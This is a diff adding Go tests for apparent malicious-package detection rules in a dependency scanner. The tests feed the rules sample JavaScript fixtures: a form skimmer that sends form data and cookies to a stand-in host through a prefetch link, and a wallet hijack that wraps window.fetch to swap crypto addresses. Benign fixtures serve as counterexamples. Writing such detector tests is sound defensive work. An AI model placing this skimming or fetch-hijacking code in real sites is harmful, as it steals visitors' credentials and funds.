@@ -1,0 +1,24 @@
+package browser
+
+import (
+	"testing"
+
+	"github.com/depfence/depfence/internal/finding"
+	rt "github.com/depfence/depfence/internal/rules/rulestest"
+)
+
+func TestFormSkimmer(t *testing.T) {
+	rt.Check(t, FormSkimmer{}, []rt.Case{
+		{"skimmer", map[string]string{"index.js": `for (var i = 0; i < document.forms.length; i++) document.forms[i].addEventListener("submit", function () {
+  var l = document.createElement("link"); l.rel = "prefetch"; l.href = "https://metrics.example.invalid/c?d=" + btoa(data + document.cookie); document.head.appendChild(l) })`}, finding.SeverityCritical},
+		{"form_library", map[string]string{"index.js": `export function values() { return Array.from(document.forms[0].elements).map(e => e.value) }`}, finding.SeverityNone},
+	})
+}
+
+func TestWalletHijack(t *testing.T) {
+	rt.Check(t, WalletHijack{}, []rt.Case{
+		{"fetch_hook", map[string]string{"index.js": `const eth = new RegExp("0x[a-fA-F0-9]{40}"), btc = new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");
+const orig = window.fetch; window.fetch = async (...a) => swap(await orig(...a))`}, finding.SeverityCritical},
+		{"address_validator", map[string]string{"index.js": `const eth = /0x[a-fA-F0-9]{40}/; export const valid = s => eth.test(s)`}, finding.SeverityNone},
+	})
+}
